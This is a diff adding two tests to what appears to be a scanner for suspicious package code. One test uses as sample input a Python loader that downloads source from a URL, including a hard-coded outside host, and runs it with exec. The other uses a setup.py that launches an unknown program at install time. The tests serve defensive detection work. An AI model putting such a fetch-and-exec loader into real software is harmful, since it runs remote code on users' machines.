@@ -549,3 +549,28 @@ test('a file that lies in a folder called as a library is no answer of a server'
     ['remote-execution'],
   );
 });
+
+test('a way to load code from wherever its caller says is doubted, not condemned', () => {
+  const confidence = (text: string): string | undefined =>
+    actsOf({ path: 'pkg/preload.py', text, language: 'python', context: 'runtime' }).find(
+      ({ kind }) => kind === 'remote-execution',
+    )?.confidence;
+  const load =
+    'from urllib.request import urlopen\n\ndef load(url):\n    with urlopen(url) as answer:\n        source = answer.read()\n    exec(compile(source, url, "exec"))\n';
+
+  assert.equal(confidence(load), 'low');
+  assert.equal(confidence(`${load}\nload("https://cdn.acme-files.xyz/a.py")\n`), 'high');
+  assert.equal(confidence(load.replace('urlopen(url)', 'urlopen("cdn.acme-files.xyz" + url)')), 'high');
+});
+
+test('tools of a build that change what was built belong to it', () => {
+  const starts = (program: string): readonly ActKind[] =>
+    actsOf({
+      path: 'setup.py',
+      text: `import subprocess\nfrom setuptools import setup\nsubprocess.run(["${program}", "--set-soname", name, library])\nsetup(name="a")\n`,
+      language: 'python',
+      context: 'runtime',
+    }).map(({ kind }) => kind);
+  assert.deepEqual(starts('patchelf'), []);
+  assert.deepEqual(starts('acme-helper'), ['install-command']);
+});
